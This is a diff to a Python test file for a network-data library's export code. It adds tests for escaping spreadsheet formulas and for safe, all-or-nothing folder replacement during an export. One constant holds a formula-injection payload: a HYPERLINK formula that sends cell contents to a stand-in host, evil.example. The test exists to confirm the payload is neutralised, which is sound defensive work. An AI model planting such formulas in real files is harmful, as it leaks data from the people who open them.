@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import importlib
 import json
 import os
+from pathlib import Path
 
 import networkx as nx
 import pandas as pd
@@ -14,8 +17,11 @@ from hypothesis import strategies as st
 import netgraph
 from netgraph.io.export import atomic_write, spreadsheet_safe
 
-#: Provenance: a re-loaded export says it came from the canonical tables.
-PROVENANCE = {"sources"}
+export_module = importlib.import_module("netgraph.io.export")
+
+#: Provenance: a re-loaded export says it came from the canonical tables; the evidence of an inferred tie
+#: is recomputed from them, in words that name the (pseudonymised) employers.
+PROVENANCE = {"sources", "evidence"}
 
 
 def same_graph(G, H):
@@ -148,3 +154,79 @@ def _tables(folder, people, interactions, ties):
     interactions.to_csv(folder / "interactions.csv", index=False)
     ties.to_csv(folder / "ties.csv", index=False)
     return folder
+
+
+FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "privacy"
+#: The column a hostile file adds (tests/fixtures/privacy/network/interactions.csv), as the reader names it.
+FORMULA_COLUMN = '=hyperlink("http://evil.example/?leak="&b2,"x")'
+
+
+def test_column_names_a_spreadsheet_would_run_are_escaped(tmp_path):
+    net = netgraph.load(FIXTURES / "network")
+    assert FORMULA_COLUMN in net.interactions
+    netgraph.export(net, tmp_path / "out", format="csv")
+    for path in (tmp_path / "out").glob("*.csv"):
+        with open(path, newline="", encoding="utf-8") as handle:
+            header = next(csv.reader(handle))
+        assert not [name for name in header if name.startswith(("=", "+", "-", "@", "\t", "\r"))], path.name
+    header = (tmp_path / "out" / "interactions.csv").read_text().splitlines()[0]
+    assert "'=hyperlink(" in header
+    again = netgraph.load(tmp_path / "out")
+    assert again.interactions[FORMULA_COLUMN].tolist() == net.interactions[FORMULA_COLUMN].tolist()
+
+
+def _snapshot(folder: Path) -> dict[str, bytes]:
+    return {p.name: p.read_bytes() for p in folder.iterdir()}
+
+
+def test_an_interrupted_anonymised_export_leaves_the_plain_one_whole(demo, tmp_path, monkeypatch):
+    """Never anonymous files beside real-name ones: the folder is the old set or the new one."""
+    out = tmp_path / "out"
+    netgraph.export(demo, out, format="csv")
+    before = _snapshot(out)
+    written = []
+
+    def fails_at_the_third_file(path, data):
+        if len(written) == 2:
+            raise KeyboardInterrupt
+        written.append(path)
+        atomic_write(path, data)
+
+    monkeypatch.setattr(export_module, "atomic_write", fails_at_the_third_file)
+    with pytest.raises(KeyboardInterrupt):
+        netgraph.export(demo, out, format="csv", anonymize=True)
+    assert len(written) == 2 and _snapshot(out) == before
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary folder left
+
+
+def test_an_export_interrupted_at_the_swap_puts_the_old_folder_back(demo, tmp_path, monkeypatch):
+    out = tmp_path / "out"
+    netgraph.export(demo, out, format="csv")
+    before = _snapshot(out)
+
+    class Os:  # the os module as the export sees it: moving the new folder into place fails
+        def __getattr__(self, name):
+            return getattr(os, name)
+
+        @staticmethod
+        def replace(source, destination):
+            if Path(source).is_dir() and str(source).endswith(".tmp"):
+                raise KeyboardInterrupt
+            os.replace(source, destination)
+
+    monkeypatch.setattr(export_module, "os", Os())
+    with pytest.raises(KeyboardInterrupt):
+        netgraph.export(demo, out, format="csv", anonymize=True)
+    assert _snapshot(out) == before
+    assert [p.name for p in tmp_path.iterdir()] == ["out"]
+
+
+def test_an_export_replaces_a_previous_one_whole_and_nothing_else(demo, tmp_path):
+    out = tmp_path / "out"
+    netgraph.export(demo, out, format="csv")
+    netgraph.export(demo, out, format="csv", anonymize=True, salt="x")
+    assert "Jane Jones" not in "".join(p.read_text() for p in out.iterdir())
+    (out / "my notes.txt").write_text("mine")
+    with pytest.raises(netgraph.NetgraphError, match=r"holds files that are not this export's \(my notes.txt\)"):
+        netgraph.export(demo, out, format="csv")
+    assert (out / "my notes.txt").read_text() == "mine"
